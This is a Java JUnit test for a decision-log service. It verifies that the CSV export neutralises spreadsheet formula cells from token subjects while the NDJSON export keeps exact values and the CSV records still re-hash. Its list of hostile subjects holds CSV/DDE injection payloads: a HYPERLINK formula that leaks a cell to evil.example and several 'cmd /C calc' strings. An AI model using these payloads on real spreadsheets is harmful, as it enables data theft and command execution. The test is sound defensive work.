package io.relationshippolicy.decisionlog;

import io.micronaut.core.type.Argument;
import io.micronaut.http.HttpRequest;
import io.micronaut.http.client.HttpClient;
import io.micronaut.http.client.annotation.Client;
import io.micronaut.json.JsonMapper;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import io.relationshippolicy.security.DevelopmentTokens;
import io.relationshippolicy.support.Api;
import io.relationshippolicy.support.TestTokens;
import jakarta.inject.Inject;
import org.junit.jupiter.api.Test;

import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * A token's subject is written into the log as it is; an auditor opens the CSV export in a spreadsheet. Cells
 * that a spreadsheet would run as formulas arrive neutralised (a leading single quote, quoted), the NDJSON
 * export keeps the exact value, and the CSV still re-hashes once the documented quote is removed.
 */
@MicronautTest(environments = "test", transactional = false)
class CsvExportForSpreadsheetsTest {

    private static final List<String> HOSTILE_SUBJECTS = List.of(
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")",
            "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "\t=1+2",
            "\r=1+2",
            "'=already quoted by its owner",
            "harmless;=1+2");

    @Inject
    @Client("/")
    HttpClient client;

    @Inject
    JsonMapper json;

    @Test
    void formulaCellsAreNeutralisedAndTheExportStillReHashes() throws Exception {
        Api api = new Api(client);
        String partner = "P-CSV-" + UUID.randomUUID().toString().substring(0, 8);
        api.putPartner(partner, "Contoso", "PUBLIC", "CSP");
        for (String sub : HOSTILE_SUBJECTS) {
            String token = DevelopmentTokens.sign(TestTokens.SECRET, sub, partner, List.of("PARTNER"), Duration.ofMinutes(5));
            assertEquals(200, api.get("/api/v1/partners/" + partner + "/relationship-request", token).status());
        }

        String csv = export(partner, "csv");
        for (String sub : HOSTILE_SUBJECTS) {
            String prefix = "=+-@\t\r'".indexOf(sub.charAt(0)) >= 0 ? "'" : "";
            assertTrue(csv.contains(",\"" + prefix + sub.replace("\"", "\"\"") + "\","), "neutralised and quoted: " + sub);
        }
        List<List<String>> records = parse(csv);
        List<String> header = records.get(0);
        assertEquals(StoredEntry.CSV_HEADER, header);
        List<String> subjects = new ArrayList<>();
        for (List<String> record : records.subList(1, records.size())) {
            for (String cell : record) {
                assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0, "a spreadsheet would run " + cell);
            }
            Map<String, Object> entry = entry(header, record);
            assertEquals(entry.get("hash"), AuditorCheck.hashOf(entry), "the CSV record re-hashes once the documented quote is removed");
            subjects.add((String) ((Map<?, ?>) entry.get("actor")).get("sub"));
        }
        assertEquals(HOSTILE_SUBJECTS, subjects, "every value round-trips, one that begins with a quote too");

        List<String> exact = export(partner, "ndjson").lines()
                .map(line -> (String) ((Map<?, ?>) read(line).get("actor")).get("sub")).toList();
        assertEquals(HOSTILE_SUBJECTS, exact, "NDJSON keeps values exact");
    }

    private String export(String partner, String format) {
        return client.toBlocking().retrieve(HttpRequest.GET("/api/v1/decision-log/export?format=" + format + "&partnerId=" + partner)
                .bearerAuth(TestTokens.auditor()), String.class);
    }

    /** What docs/decision-log.md tells an auditor: one leading single quote is removed from any cell that has one. */
    private Map<String, Object> entry(List<String> header, List<String> record) {
        Map<String, String> cells = new LinkedHashMap<>();
        for (int i = 0; i < header.size(); i++) {
            String cell = record.get(i);
            cells.put(header.get(i), cell.startsWith("'") ? cell.substring(1) : cell);
        }
        Map<String, Object> e = new LinkedHashMap<>();
        e.put("sequence", Long.parseLong(cells.get("sequence")));
        for (String text : List.of("decisionId", "kind", "outcome", "decidedAt", "rulesVersion", "partnerId", "customerId", "action",
                "service", "subscriptionId", "previousHash", "hash")) {
            e.put(text, nullIfEmpty(cells.get(text)));
        }
        Map<String, Object> actor = new LinkedHashMap<>();
        actor.put("sub", nullIfEmpty(cells.get("actorSub")));
        actor.put("tenant", nullIfEmpty(cells.get("actorTenant")));
        actor.put("roles", cells.get("actorRoles").isEmpty() ? List.of() : List.of(cells.get("actorRoles").split(",")));
        e.put("actor", actor);
        for (String jsonColumn : List.of("input", "reasons", "obligations", "firedRules", "maskedFields")) {
            e.put(jsonColumn, StoredEntry.parse(json, cells.get(jsonColumn)));
        }
        e.put("durationMicros", Long.parseLong(cells.get("durationMicros")));
        return e;
    }

    private Map<String, Object> read(String line) {
        try {
            return json.readValue(line, Argument.mapOf(String.class, Object.class));
        } catch (java.io.IOException e) {
            throw new AssertionError(e);
        }
    }

    private static String nullIfEmpty(String s) {
        return s.isEmpty() ? null : s;
    }

    /** RFC 4180: records end with CRLF outside quotes; a quoted cell may hold separators, quotes (doubled) and line breaks. */
    private static List<List<String>> parse(String csv) {
        List<List<String>> records = new ArrayList<>();
        List<String> record = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char ch = csv.charAt(i);
            if (quoted) {
                if (ch == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (ch == '"') {
                    quoted = false;
                } else {
                    cell.append(ch);
                }
            } else if (ch == '"') {
                quoted = true;
            } else if (ch == ',') {
                record.add(cell.toString());
                cell.setLength(0);
            } else if (ch == '\r' && i + 1 < csv.length() && csv.charAt(i + 1) == '\n') {
                record.add(cell.toString());
                cell.setLength(0);
                records.add(record);
                record = new ArrayList<>();
                i++;
            } else {
                cell.append(ch);
            }
        }
        return records;
    }
}
